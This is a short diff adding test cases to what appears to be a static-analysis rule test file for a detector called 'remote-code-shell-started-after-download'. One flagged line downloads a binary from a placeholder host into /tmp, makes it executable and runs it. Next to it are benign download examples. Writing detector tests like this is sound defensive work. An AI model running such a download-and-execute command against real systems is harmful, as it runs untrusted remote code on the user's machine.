@@ -7,3 +7,7 @@ bash /tmp/s.sh
 # ok: remote-code-shell-started-after-download
 curl -L https://a.invalid/data.json -o data.json
 jq . data.json
+# ruleid: remote-code-shell-started-after-download
+cd /tmp && curl -O https://a.invalid/bin/agent && chmod +x agent && ./agent
+# ok: remote-code-shell-started-after-download
+curl -O https://a.invalid/bin/rows.csv && ./import rows.csv
